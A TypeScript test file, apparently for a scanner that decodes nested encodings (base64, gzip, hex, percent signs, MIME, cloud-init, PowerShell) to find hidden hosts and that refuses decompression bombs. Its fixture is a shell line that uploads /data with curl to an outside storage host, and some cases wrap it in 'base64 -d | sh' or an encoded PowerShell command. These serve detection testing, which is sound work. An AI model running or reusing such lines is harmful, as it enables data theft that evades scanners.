import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { OverBudget } from "../../src/errors";
import { openDecoding } from "../../src/facts/budget";
import { decodings, mayHide } from "../../src/facts/readings";
import { textsOf } from "../../src/facts/texts";
import { leaves } from "../../src/facts/values";
import type { Value } from "../../src/model";

const host = "oss-cn-hangzhou.aliyuncs.com";
const script = `#!/bin/sh\ncurl -T /data https://clinic.${host}/x\n`;
const base64 = (text: string | Buffer): string => Buffer.from(text).toString("base64");
const wrapped = (text: string): string => base64(text).replaceAll(/(.{76})/g, "$1\n");
const percent = (text: string): string => text.replaceAll(/./g, (each) => `%${Buffer.from(each).toString("hex")}`);

/** What does not pack well. */
const hexadecimal = (length: number): string =>
  Array.from({ length }, (_, index) => ((index * 151 + 40) % 256).toString(16)).join("");

/** The texts that a value holds, outermost first. */
const texts = (value: Value): string[] => textsOf(leaves({ input: value }), () => true).map((each) => each.value);
const finds = (value: Value): boolean => texts(value).some((each) => each.includes(host));

describe("a text is read under its encodings", () => {
  const long = script.repeat(5);
  const cases: [string, string][] = [
    ["base64", base64(script)],
    ["base64 of the URL alphabet", Buffer.from(script).toString("base64url")],
    ["base64 in lines", wrapped(long)],
    ["base64 of base64", base64(base64(script))],
    ["gzip in base64", base64(gzipSync(script))],
    ["zlib in base64", base64(deflateSync(long))],
    ["raw deflate in base64", base64(deflateRawSync(`${long}${hexadecimal(40)}`))],
    ["a text with a byte that is no text", base64(Buffer.concat([Buffer.from(long), Buffer.from([0xff])]))],
    ["base64 in gzip in base64", base64(gzipSync(base64(long)))],
    ["hexadecimal", Buffer.from(script).toString("hex")],
    ["percent signs", `https://x/?to=${percent(host)}`],
    ["percent signs of percent signs", percent(percent(host))],
    ["escapes of Unicode", host.replaceAll(".", "\\u002e")],
    ["escapes of bytes", host.replaceAll(".", "\\x2E")],
    ["UTF-16 in base64, as PowerShell has it", `powershell -EncodedCommand ${base64(Buffer.from(script, "utf16le"))}`],
    ["UTF-16 of the other order", base64(Buffer.from(script, "utf16le").swap16())],
    ["base64 in the middle of a script", `echo ${base64(script)} | base64 -d | sh`],
    [
      "a part of a MIME text",
      `Content-Type: multipart/mixed; boundary="B"\nMIME-Version: 1.0\n\n--B\nContent-Transfer-Encoding: base64\n\n${wrapped(long)}\n--B--\n`,
    ],
    [
      "a file of cloud-init",
      `#cloud-config\nwrite_files:\n- path: /x\n  encoding: b64\n  content: ${base64(script)}\n`,
    ],
    [
      "a packed file of cloud-init",
      `#cloud-config\nwrite_files:\n- path: /x\n  encoding: gz+b64\n  content: |\n    ${base64(gzipSync(long)).replaceAll(/(.{60})/g, "$1\n    ")}\n`,
    ],
    ["JSON in JSON", JSON.stringify({ a: JSON.stringify({ b: [JSON.stringify(script)] }) })],
    ["JSON in YAML in base64", base64(`a: 1\nb: '${JSON.stringify({ c: host })}'\n`)],
    ["a key in JSON", JSON.stringify({ [host]: "x" })],
  ];
  test.each(cases)("%s", (_, text) => {
    expect(finds(text)).toBe(true);
  });
  test("a key of the input itself", () => {
    expect(finds({ auths: { [host]: "x" } })).toBe(true);
  });
  test("a key in every place where it stands, each once", () => {
    const inputs = leaves({ tags: { [host]: "x" }, auths: [{ [host]: "x" }, { [host]: "y" }] });
    const named = textsOf(inputs, () => true).filter(({ value }) => value === host);
    expect(named.map(({ keys }) => keys)).toEqual([["tags"], ["auths"]]);
  });
  test("a URL that a line break parts, and no two lines as one", () => {
    expect(texts(`https://${host.replace(".", ".\n")}/x`)).toContain(`https://${host}/x`);
    expect(texts(`https://example.org/x\n${host}`)).toEqual([`https://example.org/x\n${host}`]);
  });
  test.each([
    ["nothing", "moved away"],
    ["a checksum", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"],
    ["a key", base64(Buffer.from(Array.from({ length: 96 }, (_, index) => (index * 151 + 40) % 256)))],
    ["half of a packed text", base64(gzipSync(long).subarray(0, 20))],
    ["YAML with aliases without end", `a: &x [1]\nb: [${"*x,".repeat(101)}]\n`],
  ])("%s says no more than itself", (_, text) => {
    expect(texts(text)).toEqual([text]);
  });
});

describe("whatever a text holds", () => {
  const anything = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.base64String({ maxLength: 2_000 }),
    fc.uint8Array({ maxLength: 500 }).map((bytes) => base64(Buffer.from(bytes))),
    fc.uint8Array({ maxLength: 500 }).map((bytes) => base64(gzipSync(bytes))),
    fc.json(),
    fc
      .array(fc.constantFrom("%2e", "%25", "\\u002e", "aaaa", "\n", "==", "- a: ", "[", "{", "*x"), { maxLength: 100 })
      .map((each) => each.join("")),
  );
  test("it is read without a fault, and comes out bounded", () => {
    fc.assert(
      fc.property(anything, (text) => {
        const out = texts(text);
        // Five layers, of each of which escapes and percent signs may be taken off first.
        const most = 100 * text.length + 10;
        expect(out.reduce((sum, each) => sum + each.length, 0)).toBeLessThanOrEqual(most);
        expect(Array.isArray(decodings(text, openDecoding()))).toBe(true);
      }),
    );
  });
  test("what any encoding hides is found under any other", () => {
    const encode = fc.constantFrom(
      base64,
      (text: string) => base64(gzipSync(text)),
      (text: string) => base64(deflateSync(text)),
      (text: string) => Buffer.from(text).toString("hex"),
      percent,
      (text: string) => JSON.stringify({ text }),
    );
    fc.assert(
      fc.property(fc.array(encode, { minLength: 1, maxLength: 3 }), (encoders) => {
        expect(finds(encoders.reduce((text, each) => each(text), script))).toBe(true);
      }),
    );
  });
});

describe("the time it takes is bounded", () => {
  const cases: [string, string][] = [
    ["a long run of one letter", "a".repeat(1_000_000)],
    ["lines of base64 that break off", `${"QUJD".repeat(20)}\n`.repeat(10_000)],
    ["percent signs without end", "%25".repeat(300_000)],
    ["backslashes without end", "\\".repeat(900_000)],
    ["escapes without end", "\\u005c".repeat(150_000)],
    ["quotes without end", `"'`.repeat(450_000)],
    ["quotes and spaces without end", `"                   `.repeat(45_000)],
    ["parts put together without end", `"a" + `.repeat(150_000)],
    ["brackets without end", "[".repeat(500_000)],
    ["lines that look like YAML", 'a: "\n'.repeat(30_000)],
    ["an unfolding list in YAML", `a: &a [x]\n${Array.from({ length: 30 }, (_, i) => `b${i}: [*a, *a]`).join("\n")}\n`],
  ];
  test.each(cases)("%s", (_, text) => {
    const started = performance.now();
    texts(text);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe("what holds more than is judged is refused, not read in part", () => {
  const bomb = base64(gzipSync(Buffer.alloc(4_000_001, 97)));
  const half = base64(gzipSync(Buffer.alloc(3_900_000, 97)));
  const block = Buffer.from(Array.from({ length: 1_000 }, (_, index) => (index * index * 151 + 40) % 256));
  const archive = (blocks: number) => base64(gzipSync(Buffer.concat(Array.from({ length: blocks }, () => block))));
  const small = archive(400);
  const cases: [string, string][] = [
    ["a text that unpacks to more than four million characters", bomb],
    ["such a text in JSON", JSON.stringify([bomb])],
    ["six that do so together", JSON.stringify(Array.from({ length: 6 }, () => half))],
    ["very many that unpack to no text", JSON.stringify(Array.from({ length: 10_000 }, () => small))],
    [
      "lists of lists in YAML that unfold",
      `a0: &a0 []\n${Array.from({ length: 9 }, (_, at) => `a${at + 1}: &a${at + 1} [${`*a${at},`.repeat(10)}]\n`).join("")}`,
    ],
    [
      "maps in YAML that are merged",
      `a: &a {${Array.from({ length: 10_000 }, (_, at) => `k${at}: 1`).join(",")}}\nb:\n${"  - <<: *a\n".repeat(90)}`,
    ],
    ["lists nested too deeply", `${"[".repeat(100_000)}${"]".repeat(100_000)}`],
    ["JSON of very many values", JSON.stringify(Array.from({ length: 100_001 }, (_, index) => index))],
  ];
  test.each(cases)("%s", (_, text) => {
    const started = performance.now();
    expect(() => texts(text)).toThrow(OverBudget);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
  test.each([
    ["four million letters", "a".repeat(4_000_000)],
    ["almost as many, packed", half],
    ["an archive of much more", archive(60_000)],
  ])("%s are read", (_, text) => {
    expect(texts(text).length).toBeGreaterThan(0);
  });
});

test("most values need no second look", () => {
  for (const value of ["t3.micro", "us-east-1", "my-bucket", "10.0.0.0/16", "true", "Standard_LRS"]) {
    expect(mayHide(value)).toBe(value === "Standard_LRS");
  }
});
